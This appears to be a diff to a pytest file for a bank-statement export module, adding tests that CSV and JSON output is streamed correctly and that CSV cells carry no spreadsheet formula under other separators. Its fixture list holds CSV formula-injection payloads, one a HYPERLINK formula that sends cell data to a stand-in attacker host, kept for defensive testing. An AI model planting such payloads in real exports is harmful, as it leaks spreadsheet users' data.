@@ -3,6 +3,7 @@
 import csv
 import re
 from collections.abc import Iterator
+from contextlib import closing
 from dataclasses import fields, is_dataclass
 from datetime import date
 from decimal import Decimal
@@ -23,7 +24,7 @@ from xsdata.formats.dataclass.serializers import XmlSerializer
 
 from tests.factories import make_account, make_client, pay_in
 from tests.statements.story import NOW, Story, day
-from transfers.statements.files import RENDERERS
+from transfers.statements.files import RENDERERS, answer_with
 from transfers.statements.periods import Period
 from transfers.statements.selectors import Statement, get_statement
 from transfers.statements.states import StatementFormat
@@ -33,8 +34,9 @@ pytestmark = pytest.mark.django_db
 QUIET = Period(date(2026, 4, 1), date(2026, 4, 30))
 
 NASTY = [
-    '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\uff1d1+1", "a;=1+1", "x|@y",
-    '"quoted", and comma', "</Nm><Amt>&amp;&lt;]]>", "non\uffffcharacter\ufffe", "张伟", "שלום", "👩‍👩‍👧",
+    '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\uff1d1+1", "a;=1+1",
+    "x|@y", 'a;"=1+1;', 'b|"" @y', '"quoted", and comma', "</Nm><Amt>&amp;&lt;]]>", "non\uffffcharacter\ufffe",
+    "张伟", "שלום", "👩‍👩‍👧",
     "e\u0301" * 70, "x" * 140, "🏦" * 140,
 ]  # fmt: skip
 
@@ -60,6 +62,15 @@ def nasty(request: pytest.FixtureRequest, story: Story) -> str:
     carla = make_account(client=make_client(name=f"{text[:130]} Carla"), balance=100, now=day(1))
     story.move(carla, story.alice, 100, at=day(2), text=text)
     return text
+
+
+def test_the_server_gets_it_as_a_file_to_be_sent_at_the_readers_pace(lived: Story, march: Period) -> None:
+    answer = answer_with(lived.state(march), form=StatementFormat.JSON)
+
+    with closing(answer):
+        assert answer.file_to_stream
+        assert answer.file_to_stream.read() == render(lived.state(march), StatementFormat.JSON)
+        assert answer.file_to_stream.fileno()
 
 
 class TestJson:
@@ -139,6 +150,15 @@ class TestCsv:
         assert len(list(csv.reader(StringIO(content)))) == 4
         assert not [part for part in parts if part.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
         assert any(nasty == cell.replace("'", "") for cell in cells)
+
+    @pytest.mark.parametrize("separator", [";", "|", "\t"])
+    def test_holds_no_formula_for_a_program_that_splits_it_elsewhere(
+        self, story: Story, nasty: str, march: Period, separator: str
+    ) -> None:
+        content = render(story.state(march), StatementFormat.CSV).decode("utf-8-sig")
+
+        cells = [cell for row in csv.reader(StringIO(content), delimiter=separator) for cell in row]
+        assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
 
 
 class TestCamt053:
